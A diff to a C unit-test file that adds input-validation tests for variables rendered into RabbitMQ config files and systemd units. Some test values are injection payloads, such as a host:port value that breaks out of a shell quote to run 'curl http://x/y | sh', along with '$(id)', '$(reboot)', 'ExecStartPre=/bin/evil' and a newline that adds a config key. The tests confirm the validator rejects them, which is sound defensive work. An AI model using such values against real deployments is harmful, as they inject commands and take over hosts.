@@ -127,6 +127,38 @@ static void loads_the_shipped_profiles(void)
 	CHECK(json_is_null(json_object_get(v0, "default")));
 	CHECK(json_is_false(json_object_get(v0, "required")));
 	CHECK(strstr(s, "\"default\":\"docker.io/library/rabbitmq:3.10-management\"") != NULL);
+	/* every shipped variable declares its rule, and GET /profiles shows it */
+	static const char *const want_types[][3] = {
+	        {"rabbitmq_admin_password", "secret", "255"},
+	        {"rabbitmq_admin_user", "line", "255"},
+	        {"rabbitmq_erlang_cookie", "secret", "255"},
+	        {"rabbitmq_etcd_endpoint", "host_port", "300"},
+	        {"rabbitmq_image", "image", "512"},
+	};
+	for (size_t i = 0; i < 5; i++) {
+		json_t *v = json_array_get(json_object_get(p1, "variables"), i);
+		CHECK_STR(json_string_value(json_object_get(v, "name")), want_types[i][0]);
+		CHECK_STR(json_string_value(json_object_get(v, "type")), want_types[i][1]);
+		CHECK_INT(json_integer_value(json_object_get(v, "max_length")),
+		          atoi(want_types[i][2]));
+		CHECK(json_is_string(json_object_get(v, "rule")));
+	}
+	json_t *cookie = json_array_get(json_object_get(p1, "variables"), 2);
+	CHECK_STR(json_string_value(json_object_get(cookie, "pattern")), "[A-Za-z0-9]+");
+	CHECK_STR(json_string_value(json_object_get(cookie, "rule")),
+	          "a secret of one or more of A-Z a-z 0-9 . _ ~ + / = -, at most 255 bytes, "
+	          "matching the pattern \"[A-Za-z0-9]+\" (all of it)");
+	json_t *ep = json_array_get(json_object_get(p1, "variables"), 3);
+	CHECK_STR(json_string_value(json_object_get(ep, "rule")),
+	          "host:port (a host name, an IPv4 address or an [IPv6] address, then a port "
+	          "1-65535), at most 300 bytes");
+	/* the built-ins (all the etcd profile uses) with theirs */
+	json_t *bi = json_object_get(d, "builtins");
+	CHECK_INT(json_array_size(bi), 5);
+	CHECK_STR(json_string_value(json_object_get(json_array_get(bi, 3), "name")),
+	          "discovery_url");
+	CHECK_STR(json_string_value(json_object_get(json_array_get(bi, 3), "type")), "url");
+	CHECK_INT(json_integer_value(json_object_get(json_array_get(bi, 2), "max")), 99);
 	free(s);
 	json_decref(d);
 
@@ -312,7 +344,102 @@ static void rejects_bad_profiles(void)
 	        {"p/profile.json", "{\"variables\": {\"v\": {\"required\": \"yes\"}}}",
 	         "/p/profile.json: variables.v.required", NULL},
 	        {"p/profile.json", "{\"variables\": {\"v\": {\"default\": \"a\\u0001\"}}}",
-	         "/p/profile.json: variables.v.default contains a control character", NULL},
+	         "/p/profile.json: variables.v: the default \"a?\" fails the variable's own rule: "
+	         "must be one line (no control characters); got a control character (0x01) at "
+	         "byte 1",
+	         NULL},
+	        /* rules: each names profile (its folder), variable and rule */
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": \"a(\"}}}",
+	         "/p/profile.json: variables.v.pattern: \"a(\" is not a POSIX extended regular "
+	         "expression: Unmatched ( or \\(",
+	         NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": \"a)|(b)\"}}}",
+	         "/p/profile.json: variables.v.pattern: \"a)|(b)\" is not a POSIX extended",
+	         "unmatched ( or )"},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"pattern\": 5}}}",
+	         "/p/profile.json: variables.v.pattern must be a string", NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"type\": \"ipv4\"}}}",
+	         "/p/profile.json: variables.v.type: unknown type \"ipv4\" (types: line, text, "
+	         "word, hostname, host_port, url, image, secret, integer)",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"type\": \"hostname\", \"default\": "
+	         "\"a b\"}}}",
+	         "/p/profile.json: variables.v: the default \"a b\" fails the variable's own rule: "
+	         "must be a host name",
+	         "got a space at byte 1"},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"pattern\": \"[0-9]+\", \"default\": "
+	         "\"12x\"}}}",
+	         "/p/profile.json: variables.v: the default \"12x\" fails the variable's own rule: "
+	         "must match the pattern \"[0-9]+\" (all of it)",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"max_length\": 3, \"default\": "
+	         "\"abcd\"}}}",
+	         "/p/profile.json: variables.v: the default \"abcd\" fails the variable's own "
+	         "rule: must be at most 3 bytes; got 4",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"enum\": [\"a\", \"b\"], \"default\": "
+	         "\"c\"}}}",
+	         "/p/profile.json: variables.v: the default \"c\" fails the variable's own rule: "
+	         "must be one of \"a\", \"b\"",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"type\": \"word\", \"enum\": [\"a\", "
+	         "\"b c\"]}}}",
+	         "/p/profile.json: variables.v: enum[1] \"b c\" fails the variable's own rule: "
+	         "must "
+	         "be one word",
+	         NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"enum\": []}}}",
+	         "/p/profile.json: variables.v.enum must be a list of 1 to 256 strings", NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"max_length\": 0}}}",
+	         "/p/profile.json: variables.v.max_length must be a whole number from 1 to 65536",
+	         NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"max_length\": 65537}}}",
+	         "/p/profile.json: variables.v.max_length must be", NULL},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"min\": 1}}}",
+	         "/p/profile.json: variables.v.min needs \"type\": \"integer\"", NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"type\": \"integer\", \"min\": 5, "
+	         "\"max\": 1}}}",
+	         "/p/profile.json: variables.v: min is above max", NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"type\": \"integer\", \"min\": 1, "
+	         "\"max\": 9, \"default\": \"10\"}}}",
+	         "/p/profile.json: variables.v: the default \"10\" fails the variable's own rule: "
+	         "must be a whole number from 1 to 9",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"generate\": \"secret\", \"pattern\": "
+	         "\"[0-9]+\"}}}",
+	         "/p/profile.json: variables.v: a generated secret (32 random characters of A-Z "
+	         "a-z "
+	         "0-9) does not satisfy the variable's own rule: one line",
+	         "matching the pattern \"[0-9]+\""},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"generate\": \"secret\", \"type\": "
+	         "\"secret\", \"max_length\": 16}}}",
+	         "/p/profile.json: variables.v: a generated secret", "at most 16 bytes"},
+	        {"p/profile.json", "{\"variables\": {\"v\": {\"type\": \"text\"}}}",
+	         "/p/systemd/a.service:2: ${v} is of type text (several lines) and cannot be used "
+	         "in a systemd unit",
+	         NULL},
+	        {"p/files/etc/b.conf", "x=${v|shell}\n",
+	         "/p/files/etc/b.conf:1: unknown filter \"shell\" in \"${v|shell}\"", NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {}}, \"files\": {\"/etc/a.conf\": {\"context\": "
+	         "\"yaml\"}}}",
+	         "/p/profile.json: files./etc/a.conf.context must be \"raw\", \"systemd\", \"sh\" "
+	         "or \"json\"",
+	         NULL},
+	        {"p/profile.json",
+	         "{\"variables\": {\"v\": {\"type\": \"text\"}}, \"files\": {\"/etc/a.conf\": "
+	         "{\"context\": \"systemd\"}}}",
+	         "/p/files/etc/a.conf:1: ${v} is of type text", NULL},
+
 	        {"p/profile.json", MANY_VARS, "/p/profile.json: more than 64 variables", NULL},
 	        {"p/profile.json", REMOVE, "/p/profile.json: missing", NULL},
 	        {"p/files/etc/b.conf", "line 1\nline 2 ${nope}\n",
@@ -435,8 +562,21 @@ static void checks_choices(void)
 	for (int i = 0; i < 70; i++)
 		memcpy(wide + 5 * i, "${v}\n", 5);
 	wide[350] = '\0';
-	put(root, "wide/profile.json", "{\"variables\": {\"v\": {}}}");
+	put(root, "wide/profile.json", "{\"variables\": {\"v\": {\"max_length\": 65536}}}");
 	put(root, "wide/files/etc/wide", wide);
+	/* a variable a unit writes into a plain setting (Description=) as is */
+	put(root, "setting/profile.json", "{\"variables\": {\"d\": {\"default\": \"x\"}}}");
+	put(root, "setting/systemd/s.service",
+	    "[Unit]\nDescription=${d}\n[Service]\nExecStart=/bin/echo ${d}\n");
+	/* a second declaration of rabbitmq_admin_user with a stricter rule */
+	put(root, "strict/profile.json",
+	    "{\"variables\": {\"rabbitmq_admin_user\": {\"enum\": [\"admin\", \"ops\"]}}}");
+	put(root, "strict/files/etc/strict", "${rabbitmq_admin_user}\n");
+	put(root, "num/profile.json",
+	    "{\"variables\": {\"n\": {\"type\": \"integer\", \"min\": -5, \"max\": 5}, "
+	    "\"h\": {\"type\": \"hostname\"}, \"u\": {\"type\": \"url\"}, \"w\": {\"type\": "
+	    "\"word\"}, \"t\": {\"type\": \"text\"}}}");
+	put(root, "num/files/etc/num", "${n} ${h} ${u} ${w} ${t}\n");
 	buf_init(&msg, 4096);
 	CHECK_INT(profile_set_load(dirs, 2, &check_set, &msg), K_OK);
 	CHECK_STR(buf_str(&msg), "");
@@ -448,8 +588,104 @@ static void checks_choices(void)
 	             "{\"rabbitmq_image\": \"quay.io/x/rabbitmq:3.12\", \"rabbitmq_admin_user\": "
 	             "\"ops\", \"rabbitmq_erlang_cookie\": \"mine\"}",
 	             NULL);
-	/* a newline is fine in a variable that only files use */
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\nb\\tc\"}", NULL);
+
+	/* issue 12 item 7, attack 1: a newline in rabbitmq_admin_user adds keys to rabbitmq.conf */
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"admin\\ndefault_pass = x\"}",
+	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one line (no "
+	             "control characters); got a newline at byte 5\"}");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\nb\\tc\"}",
+	             "got a newline at byte 1");
+	/* attack 2: a quote in rabbitmq_etcd_endpoint closes the sh -c '...' of ExecStartPre */
+	expect_check(
+	        "[\"rabbitmq\"]",
+	        "{\"rabbitmq_etcd_endpoint\": \"127.0.0.1:2379'; curl http://x/y | sh; '\"}",
+	        "{\"field\":\"vars.rabbitmq_etcd_endpoint\",\"message\":\"must be host:port (a "
+	        "host name, an IPv4 address or an [IPv6] address, then a port 1-65535); got "
+	        "a single quote at byte 14\"}");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"127.0.0.1\"}",
+	             "\"message\":\"must be host:port");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"etcd:65536\"}",
+	             "\"message\":\"must be host:port");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"[fe80::1]:2379\"}", NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"etcd.internal:2379\"}",
+	             NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_etcd_endpoint\": \"[fe80::zz]:2379\"}",
+	             "\"message\":\"must be host:port");
+	/* attack 3: systemd specifiers, $VAR and extra words in rabbitmq_image */
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"docker.io/x:%H\"}",
+	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"must be an OCI image "
+	             "reference ([registry[:port]/]path[:tag][@sha256:64 hex digits]; path "
+	             "components of a-z 0-9 joined by . _ __ or -); got '%' at byte 12\"}");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x$VAR\"}", "got '$' at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x -v /:/host evil\"}",
+	             "got a space at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\nExecStartPre=/bin/evil\"}",
+	             "got a newline at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\\\\"}",
+	             "got a backslash at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"Docker.io/x\"}", NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"UPPER\"}",
+	             "\"message\":\"must be an OCI image reference");
+	expect_check("[\"rabbitmq\"]",
+	             "{\"rabbitmq_image\": \"localhost:5000/a/b-c__d.e:v1.2_x@sha256:"
+	             "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\"}",
+	             NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x@sha256:0123\"}",
+	             "\"message\":\"must be an OCI image reference");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x:-bad\"}",
+	             "\"message\":\"must be an OCI image reference");
+	/* attack 4: a newline in the one-line Erlang cookie file */
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"abc\\ndef\"}",
+	             "{\"field\":\"vars.rabbitmq_erlang_cookie\",\"message\":\"must be a secret "
+	             "of one or more of A-Z a-z 0-9 . _ ~ + / = -; got a character outside that "
+	             "set at byte 3\"}");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"a-b\"}",
+	             "\"message\":\"must match the pattern \\\"[A-Za-z0-9]+\\\" (all of it)\"");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_erlang_cookie\": \"\"}",
+	             "\"message\":\"must be a secret");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_password\": \"pa ss\"}",
+	             "got a character outside that set at byte 2\"");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_password\": \"Tr0ub4dor+3/x=\"}", NULL);
+
+	/* other rules */
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"x'); DROP TABLE clusters;--\"}",
+	             NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"h\\u00e9 \\u20ac\"}", NULL);
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0007\"}",
+	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one line (no "
+	             "control characters); got a control character (0x07) at byte 1\"}");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0000b\"}",
+	             "got a NUL byte at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\r\"}",
+	             "got a carriage return at byte 1");
+	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0085\"}",
+	             "got a C1 control character at byte 1");
+	expect_check("[\"rabbitmq\", \"strict\"]", "{\"rabbitmq_admin_user\": \"bob\"}",
+	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one of "
+	             "\\\"admin\\\", \\\"ops\\\"\"}");
+	expect_check("[\"rabbitmq\", \"strict\"]", "{\"rabbitmq_admin_user\": \"ops\"}", NULL);
+	expect_check("[\"num\"]",
+	             "{\"n\": \"-5\", \"h\": \"a-1.b_c\", \"u\": "
+	             "\"https://[::1]:8080/p?q=1&r=%2F#f\", \"w\": \"x\", \"t\": \"a\\nb\\tc\"}",
+	             NULL);
+	expect_check("[\"num\"]", "{\"n\": \"6\"}",
+	             "{\"field\":\"vars.n\",\"message\":\"must be a whole number from -5 to 5\"}");
+	expect_check("[\"num\"]", "{\"n\": \"05\"}", "\"message\":\"must be a whole number\"");
+	expect_check("[\"num\"]", "{\"n\": \"99999999999999999999\"}",
+	             "\"message\":\"must be a whole number\"");
+	expect_check("[\"num\"]", "{\"h\": \"-a.b\"}", "\"message\":\"must be a host name");
+	expect_check("[\"num\"]", "{\"u\": \"http://x/'$(id)'\"}",
+	             "got a single quote at byte 9\"");
+	expect_check("[\"num\"]", "{\"u\": \"ftp://x/\"}", "\"message\":\"must be an http://");
+	expect_check("[\"num\"]", "{\"u\": \"http://x/%zz\"}", "got '%' at byte 9");
+	expect_check("[\"num\"]", "{\"w\": \"a b\"}", "\"message\":\"must be one word");
+	expect_check("[\"num\"]", "{\"t\": \"a\\rb\"}", "got a carriage return at byte 1");
+	/* a setting that holds a value as is: no final backslash (it would continue the line) */
+	expect_check("[\"setting\"]", "{\"d\": \"x\\\\\"}",
+	             "{\"field\":\"vars.d\",\"message\":\"must not end in a backslash: systemd "
+	             "s.service (profile \\\"setting\\\", line 2) writes it into a setting as is, "
+	             "where a final backslash would continue the line\"}");
+	expect_check("[\"setting\"]", "{\"d\": \"50% $HOME \\\\x 'q'\"}", NULL);
 
 	expect_check("\"etcd\"", NULL,
 	             "{\"field\":\"profiles\",\"message\":\"must be an array of profile names\"}");
@@ -481,18 +717,6 @@ static void checks_choices(void)
 	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"must be a string\"}");
 	expect_check("[\"rabbitmq\"]", "{\"Bad\": \"x\"}",
 	             "{\"field\":\"vars.Bad\",\"message\":\"is not a variable name");
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0007\"}",
-	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"contains a control "
-	             "character");
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0000b\"}",
-	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"contains a control");
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\r\"}",
-	             "\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"contains a control");
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\nExecStartPre=/bin/evil\"}",
-	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"contains a newline but is "
-	             "used in systemd unit rabbitmq.service (profile \\\"rabbitmq\\\")\"}");
-	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": \"x\\\\\"}",
-	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"ends with a backslash");
 	expect_check("[\"req\"]", NULL,
 	             "{\"field\":\"vars.token\",\"message\":\"is required by profile "
 	             "\\\"req\\\"\"}");
@@ -505,11 +729,12 @@ static void checks_choices(void)
 	memset(s + n, 'a', big);
 	snprintf(s + n + big, 64, "\"}");
 	expect_check("[\"rabbitmq\"]", s,
-	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"is longer than");
-	s[n + big - 1] = '"';
-	s[n + big] = '}';
-	s[n + big + 1] = '\0';
-	expect_check("[\"rabbitmq\"]", s, NULL); /* exactly 64 KiB */
+	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be at most 255 "
+	             "bytes; got 65537\"}");
+	snprintf(s, 64, "{\"rabbitmq_admin_user\": \"");
+	memset(s + n, 'a', 255);
+	snprintf(s + n + 255, 64, "\"}");
+	expect_check("[\"rabbitmq\"]", s, NULL); /* exactly max_length */
 	/* 70 references to a 64 KiB value: over PROFILE_RENDER_MAX once rendered */
 	snprintf(s, 64, "{\"v\": \"");
 	memset(s + 7, 'a', PROFILE_VALUE_MAX);
@@ -572,6 +797,48 @@ static void generates_secrets_and_resolves_values(void)
 	CHECK_INT(profile_var_value(p, "rabbitmq_admin_password", vars, NULL, &v), K_EINVAL);
 	CHECK_INT(profile_var_value(p, "nope", vars, secrets, &v), K_EINVAL);
 	CHECK(profile_builtin("public_url") && !profile_builtin("rabbitmq_image"));
+
+	/* a value stored before its rule existed is not rendered */
+	json_t *old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "ab\ncd");
+	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", old, secrets, &v), K_EINVAL);
+	json_decref(old);
+	old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "x");
+	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", NULL, old, &v), K_OK);
+	json_decref(old);
+	old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "x y");
+	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", NULL, old, &v), K_EINVAL);
+	json_decref(old);
+	/* built-ins */
+	CHECK(profile_builtin_valid("cluster_name", "demo-1"));
+	CHECK(!profile_builtin_valid("cluster_name", "demo 1"));
+	CHECK(profile_builtin_valid("size", "99") && !profile_builtin_valid("size", "100"));
+	CHECK(profile_builtin_valid("discovery_url", "https://discovery.etcd.io/0123abcd"));
+	CHECK(!profile_builtin_valid("discovery_url", "https://d/x'$(reboot)'"));
+	CHECK(profile_builtin_valid("public_url", "http://[::1]:8080"));
+	CHECK(profile_builtin_valid("public_url", ""));
+	CHECK(!profile_builtin_valid("nope", "x"));
+
+	/* a generated secret satisfies its rule, in every profile that declares it */
+	char root[] = "/tmp/kindling-gen-XXXXXX";
+	const char *dirs2[] = {dir, root};
+	struct profile_set *ps2 = NULL;
+	CHECK(mkdtemp(root) != NULL);
+	put(root, "up/profile.json",
+	    "{\"variables\": {\"rabbitmq_erlang_cookie\": {\"generate\": \"secret\", "
+	    "\"pattern\": \"[A-Z].*\"}}}");
+	put(root, "up/files/etc/up", "${rabbitmq_erlang_cookie}");
+	CHECK_INT(profile_set_load(dirs2, 2, &ps2, NULL), K_OK);
+	json_t *both = json_pack("[s,s]", "rabbitmq", "up");
+	for (int i = 0; i < 50; i++) {
+		json_t *g = NULL;
+		CHECK_INT(profile_generate_secrets(ps2, both, NULL, &g), K_OK);
+		const char *c = json_string_value(json_object_get(g, "rabbitmq_erlang_cookie"));
+		CHECK(c && strlen(c) == 32 && c[0] >= 'A' && c[0] <= 'Z');
+		json_decref(g);
+	}
+	json_decref(both);
+	profile_set_free(&ps2);
+	rm_rf(root);
 
 	json_decref(secrets);
 	json_decref(secrets2);
